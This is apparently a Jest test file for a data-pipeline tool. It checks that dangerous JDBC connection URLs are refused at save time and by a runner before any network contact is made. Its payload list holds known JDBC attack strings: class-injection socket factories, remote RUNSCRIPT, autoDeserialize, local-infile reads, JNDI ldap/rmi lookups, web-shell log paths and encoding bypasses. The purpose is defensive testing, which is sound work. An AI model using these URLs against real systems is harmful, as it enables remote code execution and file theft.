/** URLs that would run code, read files or call home: refused at save and again by jrunner, before anything connects. */
import { createServer, type Server } from 'node:net';
import type { AddressInfo } from 'node:net';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import { allDrivers, DRIVERS, type DriverName } from '../../src/domain/drivers.js';
import { createPipe, type JRunnerPipe } from '../../src/runner/index.js';
import { checkJdbcUrl } from '../../src/services/jdbcUrl.js';
import { call, DRIVERS_DIR } from './support/engines.js';

const path = fileURLToPath(new URL('../../jrunner/bin/jrunner', import.meta.url));
const env = {
  PATH: process.env.PATH as string,
  JRUNNER_DRIVERS: DRIVERS_DIR,
  JRUNNER_FILE_DIRS: '/tmp/pipekit-allowed',
};

let canary: Server;
let connections = 0;
let pipe: JRunnerPipe;
beforeAll(async () => {
  canary = createServer((socket) => {
    connections += 1;
    socket.destroy();
  });
  await new Promise<void>((resolve) => canary.listen(0, '127.0.0.1', resolve));
  pipe = createPipe({ path, env });
});
afterAll(async () => {
  await pipe.close();
  canary.close();
});

/** HOST stands for the canary's address. */
const PAYLOADS: [DriverName, string][] = [
  [
    'postgresql',
    'jdbc:postgresql://HOST/x?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext&socketFactoryArg=http://HOST/x',
  ],
  ['postgresql', 'jdbc:postgresql://HOST/x?sslfactory=java.lang.String'],
  ['postgresql', 'jdbc:postgresql://HOST/x?ssl=true&SocketFactory=a.B'],
  ['postgresql', 'jdbc:postgresql://HOST/x?%73ocketFactory=a.B'],
  ['postgresql', 'jdbc:postgresql://HOST/x?%2573ocketFactory=a.B'],
  ['postgresql', 'jdbc:postgresql://HOST/x?ssl=true&%00socketFactory=a.B'],
  ['postgresql', 'jdbc:postgresql://HOST/x?loggerFile=/tmp/shell.jsp&loggerLevel=DEBUG'],
  ['postgresql', 'jdbc:postgresql://HOST/x;socketFactory=a.B'],
  ['postgresql', 'jdbc:postgresql://HOST/x#?socketFactory=a.B'],
  ['postgresql', 'jdbc:postgresql://HOST/x?service=evil'],
  ['postgresql', 'jdbc:postgresql://HOST/x?sslmode=disable&sslmode=require'],
  ['postgresql', 'jdbc:postgresql://me:secret@HOST/x'],
  ['postgresql', 'JDBC:postgresql://HOST/x'],
  ['mariadb', 'jdbc:mariadb://HOST/x?allowLocalInfile=true'],
  ['mysql', 'jdbc:mysql://HOST/x?allowLoadLocalInfile=true'],
  ['mysql', 'jdbc:mysql://HOST/x?allowUrlInLocalInfile=true'],
  [
    'mysql',
    'jdbc:mysql://HOST/x?autoDeserialize=true&queryInterceptors=com.mysql.cj.jdbc.interceptors.ServerStatusDiffInterceptor',
  ],
  ['mysql', 'jdbc:mysql://HOST/x?auto%44eserialize=true'],
  ['mysql', 'jdbc:mysql://HOST/x?useCompression=true&ALLOWLOCALINFILE=true'],
  ['mysql', 'jdbc:mysql://(host=127.0.0.1,allowLoadLocalInfile=true)/x'],
  ['mysql', 'jdbc:mysql://address=(host=127.0.0.1)(autoDeserialize=true)/x'],
  ['mysql', 'jdbc:mysql:loadbalance://HOST,HOST/x'],
  ['mysql', 'jdbc:mysql://HOST/x?trustCertificateKeyStoreUrl=http://HOST/x'],
  ['mariadb', 'jdbc:mariadb://HOST/x?serverSslCert=a&pinGlobalTxToPhysicalConnection=1'],
  ['h2', "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://HOST/x.sql'"],
  ['h2', "jdbc:h2:file:/tmp/pipekit-allowed/x;INIT=RUNSCRIPT FROM 'http://HOST/x.sql'"],
  ['h2', "jdbc:h2:file:/tmp/pipekit-allowed/x;init=RUNSCRIPT FROM '/tmp/x.sql'"],
  ['h2', 'jdbc:h2:file:/tmp/pipekit-allowed/x\\;TRACE_LEVEL_FILE=4'],
  ['h2', 'jdbc:h2:tcp://HOST/x'],
  ['h2', 'jdbc:h2:file:/etc/passwd'],
  ['h2', 'jdbc:h2:file:/tmp/pipekit-allowed/../../etc/x'],
  ['h2', 'jdbc:h2:zip:/tmp/x.zip!/x'],
  ['sqlite', 'jdbc:sqlite::resource:http://HOST/x.db'],
  ['sqlite', 'jdbc:sqlite:file:/etc/passwd?mode=ro'],
  ['sqlite', 'jdbc:sqlite:/tmp/pipekit-allowed/x.db?enable_load_extension=true'],
  ['sqlite', 'jdbc:sqlite:/etc/passwd'],
  ['sqlite', 'jdbc:sqlite:relative.db'],
  ['sqlite', 'jdbc:sqlite::memory:'],
  ['duckdb', 'jdbc:duckdb:'],
  ['duckdb', 'jdbc:duckdb:/tmp/pipekit-allowed/x;allow_unsigned_extensions=true'],
  ['duckdb', 'jdbc:duckdb:http://HOST/x.duckdb'],
  ['derby', 'jdbc:derby:/tmp/pipekit-allowed/x;create=true'],
  ['derby', 'jdbc:derby:/tmp/pipekit-allowed/x;startMaster=true;slaveHost=127.0.0.1'],
  ['derby', 'jdbc:derby://HOST/x;create=true'],
  ['derbyserver', 'jdbc:derby://HOST/x;create=true'],
  ['derbyserver', 'jdbc:derby://HOST/x;traceFile=/tmp/shell.jsp'],
  ['derbyserver', 'jdbc:derby://HOST/x;traceDirectory=/tmp'],
  ['derbyserver', 'jdbc:derby://HOST/x;user=me;password=secret'],
  ['derbyserver', 'jdbc:derby://HOST/x;ssl=off;SSL=basic'],
  ['derbyserver', 'jdbc:derby:/tmp/pipekit-allowed/x'],
  ['derby', 'jdbc:derby:jar:(/tmp/x.jar)x'],
  ['db2', 'jdbc:db2://HOST/x:clientRerouteServerListJNDIName=ldap://HOST/x;'],
  ['db2', 'jdbc:db2://HOST/x:securityMechanism=3;clientRerouteServerListJNDIName=rmi://HOST/x;'],
  ['db2', 'jdbc:db2://HOST/x:traceFile=/tmp/shell.jsp;'],
  ['db2', 'jdbc:db2:x'],
  ['db2i', 'jdbc:as400://HOST;trace=true;key ring name=/tmp/x'],
  ['db2i', 'jdbc:as400://127.0.0.1;transaction isolation=none'],
  ['db2i', 'jdbc:as400://127.0.0.1/x;proxy server=HOST'],
  ['sqlserver', 'jdbc:sqlserver://127.0.0.1;integratedSecurity=true;authenticationScheme=JavaKerberos'],
  ['sqlserver', 'jdbc:sqlserver://127.0.0.1;socketFactoryClass=a.B'],
  ['sqlserver', 'jdbc:sqlserver://127.0.0.1;trustManagerClass=a.B;trustManagerConstructorArg=x'],
  ['sqlserver', 'jdbc:sqlserver://127.0.0.1;databaseName={x;socketFactoryClass=a.B}'],
  ['sqlserver', 'jdbc:sqlserver://127.0.0.1;ENCRYPT=false'],
  ['oracle', 'jdbc:oracle:thin:@ldap://HOST/x'],
  [
    'oracle',
    'jdbc:oracle:thin:@(DESCRIPTION=(ADDRESS=(PROTOCOL=TCP)(HOST=127.0.0.1)(PORT=1))(CONNECT_DATA=(SID=x)))',
  ],
  ['oracle', 'jdbc:oracle:thin:@//HOST/x?oracle.net.wallet_location=/tmp'],
  ['oracle', 'jdbc:oracle:thin:me/secret@//HOST/x'],
  ['oracle', 'jdbc:oracle:oci:@x'],
];

describe('a URL that could do harm', () => {
  test.each(PAYLOADS)('of %s: %s', async (driver, template) => {
    const url = template.replaceAll('HOST', `127.0.0.1:${(canary.address() as AddressInfo).port}`);
    const refusedAtSave = () => checkJdbcUrl(driver, url);
    // Which directories are allowed is known where the file is.
    if (!/^jdbc:(h2:file|sqlite):\/etc\/passwd$/.test(url)) {
      expect(refusedAtSave).toThrow(expect.objectContaining({ code: 'invalid', field: 'jdbc_url' }));
    }
    const login = { url, user: 'u', password: 'a password', application: 'test' };
    const failure = await pipe.query(login, 'select 1', 1, call()).catch((error: unknown) => error);
    expect(failure).toMatchObject({ code: 'invalid', details: { kind: 'config' } });
    expect(String(failure)).not.toContain('secret');
    expect(connections).toBe(0);
  });

  test('is what keeps the canary silent: an ordinary one reaches it', async () => {
    const { port } = canary.address() as AddressInfo;
    const login = {
      url: `jdbc:mariadb://127.0.0.1:${port}/x`,
      user: 'u',
      password: 'p',
      application: 'test',
    };
    await expect(pipe.query(login, 'select 1', 1, call())).rejects.toMatchObject({ code: 'unavailable' });
    expect(connections).toBeGreaterThan(0);
  });
});

test('of the two drivers of Derby, each takes its own URLs only', () => {
  const [file, server] = ['jdbc:derby:/folder/database', 'jdbc:derby://host/database'];
  checkJdbcUrl('derby', file as string);
  checkJdbcUrl('derbyserver', server as string);
  for (const [kind, url] of [
    ['derby', server],
    ['derbyserver', file],
  ] as [DriverName, string][])
    expect(() => checkJdbcUrl(kind, url)).toThrow(expect.objectContaining({ field: 'jdbc_url' }));
});

test('what the list of drivers shows as a URL is one that can be saved', () => {
  expect(allDrivers().map(({ kind }) => kind)).toEqual([...DRIVERS]);
  for (const { kind, url_template } of allDrivers()) checkJdbcUrl(kind, url_template);
});

test('a driver that is not free is fetched on demand only, and each jar has a checksum', () => {
  for (const { free, provided, artifacts } of allDrivers()) {
    if (!free) expect(provided).toBe('on demand');
    if (provided !== 'bundled') for (const { sha256 } of artifacts) expect(sha256).toMatch(/^[0-9a-f]{64}$/);
  }
});
